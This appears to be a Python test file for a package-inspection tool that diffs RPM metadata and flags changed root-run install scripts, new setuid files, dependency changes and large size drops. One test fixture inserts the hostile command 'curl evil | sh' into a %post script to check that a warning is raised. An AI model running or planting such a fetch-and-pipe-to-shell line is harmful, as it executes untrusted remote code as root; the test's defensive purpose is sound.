"""Semantic differences: by section and label, warnings for what runs as root, bounded."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from signstation.app.difference import MAX_LINES, ChangeKind, Difference, compare
from signstation.model.artifacts import Fact, FactSection, FactStyle, Inspection, Severity
from signstation.model.text import Text, text
from signstation.model.versions import subject
from tests.support.windowdata import digest


def _inspection(title: str, *sections: FactSection, size: int = 1000) -> Inspection:
    return Inspection("rpm", title, size, digest(title), sections, (), ())


def _section(ident: str, *facts: Fact) -> FactSection:
    return FactSection(ident, Text(ident.title()), facts)


def _code(label: str, value: str) -> Fact:
    return Fact(Text(label), value, FactStyle.CODE)


def _post(value: str) -> FactSection:
    label = text("{name}, run by {program}", name="%post", program="/bin/sh")
    return _section("scripts", Fact(label, value, FactStyle.CODE))


def _codes(found: Difference) -> list[str]:
    return [each.code for each in found.findings]


def test_a_changed_script_is_a_warning_that_names_the_earlier_version() -> None:
    old = _inspection("x-1.0-1.noarch", _post("useradd x\nldconfig"))
    new = _inspection("x-1.1-1.noarch", _post("useradd x\ncurl evil | sh\nldconfig"))
    found = compare(old, new)
    (change,) = found.changes
    assert change.kind is ChangeKind.CHANGED
    assert "+curl evil | sh" in change.lines
    assert not any(each.startswith("-") for each in change.lines)
    (finding,) = found.findings
    assert (finding.code, finding.severity) == ("difference.scripts", Severity.WARNING)
    said = finding.text.english()
    assert "x-1.0-1.noarch" in said
    assert "%post, run by /bin/sh" in said


def test_a_new_script_and_a_script_that_is_gone_are_changes() -> None:
    none = _section("scripts", Fact(Text("Scripts"), "none"))
    found = compare(_inspection("a", none), _inspection("b", _post("x")))
    assert {each.kind for each in found.changes} == {ChangeKind.ADDED, ChangeKind.REMOVED}
    assert _codes(compare(_inspection("a", _post("x")), _inspection("b"))) == ["difference.scripts"]


def test_lists_are_compared_as_sets_of_lines() -> None:
    old = _section("dependencies", _code("Requires", "glibc\nzlib\nopenssl"))
    new = _section("dependencies", _code("Requires", "openssl\nglibc\nxz"))
    (change,) = compare(_inspection("a", old), _inspection("b", new)).changes
    assert change.lines == ("-zlib", "+xz")
    assert _codes(compare(_inspection("a", old), _inspection("b", new))) == [
        "difference.dependencies"
    ]


def test_files_with_special_rights_are_watched_and_ordinary_ones_are_not() -> None:
    old = _section("files", _code("List", "-rwxr-xr-x root root 1 /bin/a"))
    new = _section(
        "files",
        _code("With special rights", "-rwsr-xr-x root root 1 /bin/a"),
        _code("List", "-rwsr-xr-x root root 1 /bin/a"),
    )
    found = compare(_inspection("a", old), _inspection("b", new))
    assert _codes(found) == ["difference.rights"]
    assert found.counts() == (1, 0, 1)
    grown = _section("files", _code("List", "-rwxr-xr-x root root 2 /bin/a"))
    assert not compare(_inspection("a", old), _inspection("b", grown)).findings


def test_repeated_labels_are_a_set_of_values() -> None:
    def aliases(*names: str) -> FactSection:
        return _section("interface", *(Fact(Text("Alias"), name) for name in names))

    found = compare(_inspection("a", aliases("x", "y", "y")), _inspection("b", aliases("y", "z")))
    changes = [(each.kind, each.before or each.after) for each in found.changes]
    assert changes == [
        (ChangeKind.REMOVED, "x"),
        (ChangeKind.REMOVED, "y"),
        (ChangeKind.ADDED, "z"),
    ]
    assert _codes(found) == ["difference.aliases"]


def test_a_large_change_of_size_is_told() -> None:
    found = compare(_inspection("a", size=1000), _inspection("b", size=400))
    assert "-60 %" in found.findings[0].text.english()
    assert not compare(_inspection("a", size=1000), _inspection("b", size=1400)).findings
    assert not compare(_inspection("a", size=0), _inspection("b", size=1400)).findings


def test_long_changes_are_cut_and_long_texts_do_not_take_long() -> None:
    before = "\n".join(f"a{n}" for n in range(50_000))
    after = "\n".join(f"b{n}" for n in range(50_000))
    found = compare(_inspection("a", _post(before)), _inspection("b", _post(after)))
    lines = found.changes[0].lines
    assert len(lines) == MAX_LINES + 1
    assert lines[-1] == f"… {100_000 - MAX_LINES} more"


FACTS = st.builds(
    Fact,
    st.sampled_from([Text("One"), Text("Two")]),
    st.text("ab\n", max_size=6),
    st.sampled_from([FactStyle.TEXT, FactStyle.CODE]),
)
SECTIONS = st.lists(
    st.builds(
        FactSection,
        st.sampled_from(["scripts", "files", "other"]),
        st.just(Text("Title")),
        st.lists(FACTS, max_size=4).map(tuple),
    ),
    max_size=3,
    unique_by=lambda each: each.id,
).map(lambda each: _inspection("x", *each))


@given(SECTIONS, SECTIONS)
def test_nothing_differs_from_itself_and_both_ways_mirror(one: Inspection, two: Inspection) -> None:
    assert not compare(one, one).changes
    added, removed, changed = compare(one, two).counts()
    assert compare(two, one).counts() == (removed, added, changed)


def test_versions_of_one_thing_share_a_name() -> None:
    assert subject("rpm", "hello-1.0-1.x86_64", "x.rpm") == "hello.x86_64"
    assert subject("rpm", "gnome-hello-3:2.0-7.fc40.noarch", "") == "gnome-hello.noarch"
    assert subject("rpm", "hello-1.0-1.x86_64", "") != subject("rpm", "hello-1.0-1.i686", "")
    assert subject("kmod", "nvme", "nvme-5.ko") == "nvme"
    assert subject("blob", "tar", "acme-4.1.9.tar.gz") == subject("blob", "t", "acme-4.2.0.tar.gz")
    assert subject("blob", "", "acme-4.1.9.tar.gz") != subject("blob", "", "acme-4.1.9.tar.xz")
    assert subject("blob", "", "NOTES.txt") == "NOTES.txt"
    assert subject("blob", "", "README") == "README"
